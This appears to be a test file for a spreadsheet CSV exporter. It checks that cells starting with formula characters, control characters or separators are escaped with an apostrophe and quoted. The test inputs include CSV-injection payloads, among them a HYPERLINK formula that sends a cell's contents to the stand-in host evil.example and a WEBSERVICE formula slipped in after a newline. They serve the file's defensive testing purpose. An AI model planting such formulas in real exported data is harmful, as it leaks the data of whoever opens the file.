import { csvOf } from '../src/engine/export/csv'
import type { Cell } from '@office/shared-api/model/xlsx'

async function lineOf(cell: Cell): Promise<string> {
  async function* portions() {
    yield await Promise.resolve([[cell]])
  }
  let text = ''
  for await (const part of csvOf(portions())) text += part
  return text.slice(1).replace(/\r\n$/, '')
}

it.each(['=1+1', '+966551234567', '-2', '@SUM(A1)', ' =1', '\u00a0=1', '＝1', '＠x'])(
  'makes text of %j, which a spreadsheet would run',
  async (text) => {
    expect(await lineOf(text)).toBe(`"'${text}"`)
  },
)

it.each([
  ['x;=1+1', `"x;'=1+1"`],
  ['x; =1+1', `"x;' =1+1"`],
  ['x|@SUM(A1)', `"x|'@SUM(A1)"`],
  ['x\t=1+1', '"x =1+1"'],
  ['x;"=1+1', `"x;'""=1+1"`],
  ['A;=HYPERLINK("http://evil.example/?"&B1;"open")', `"A;'=HYPERLINK(""http://evil.example/?""&B1;""open"")"`],
  ['=a;-b;＝c', `"'=a;'-b;'＝c"`],
  ['a;b|c', '"a;b|c"'],
])('makes text of %j, which a spreadsheet with another separator would run', async (text, line) => {
  expect(await lineOf(text)).toBe(line)
})

it.each([
  ['\u0001=1', `"' =1"`],
  ['\t=1', `"' =1"`],
  ['\tx', '" x"'],
  ['\r\n=1', `"' =1"`],
  [`x\n=WEBSERVICE(1);'`, `"x =WEBSERVICE(1);'"`],
  ['a,b', '"a,b"'],
  ['say "x"', '"say ""x"""'],
  ['a = b', '"a = b"'],
  ['عميل', '"عميل"'],
  [-5, '-5'],
  ['', '""'],
] as const)('writes %j as %s', async (cell, line) => {
  expect(await lineOf(cell)).toBe(line)
})
